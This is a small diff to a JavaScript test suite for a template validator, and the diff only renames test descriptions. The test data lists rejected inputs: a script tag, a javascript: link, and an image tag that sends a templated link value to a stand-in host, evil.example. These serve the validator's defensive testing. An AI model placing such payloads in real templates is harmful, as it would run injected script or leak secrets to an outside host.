@@ -11,7 +11,7 @@ describe('a template', () => {
     '{% if message and first_name != "x" %}{{ message }}{% else %}-{% endif %}',
     `{{ first_name | default: 'you' | truncate: 20, "…" }}`,
     '<p class="button">first name, salary</p>',
-  ])('may say %s', (text) => {
+  ])('may contain %s', (text) => {
     expect(errorOf(text)).toBeUndefined();
   });
 
@@ -26,7 +26,7 @@ describe('a template', () => {
     ['<script>alert(1)</script>', { code: 'unsafe_html' }],
     ['<a href="javascript:x">x</a>', { code: 'unsafe_html' }],
     ['<img src="https://evil.example/?{{ link }}">', { code: 'secret_misplaced' }],
-  ])('may not say %.40s', (text, error) => {
+  ])('must not contain %.40s', (text, error) => {
     expect(errorOf(text)).toEqual(error);
   });
 });
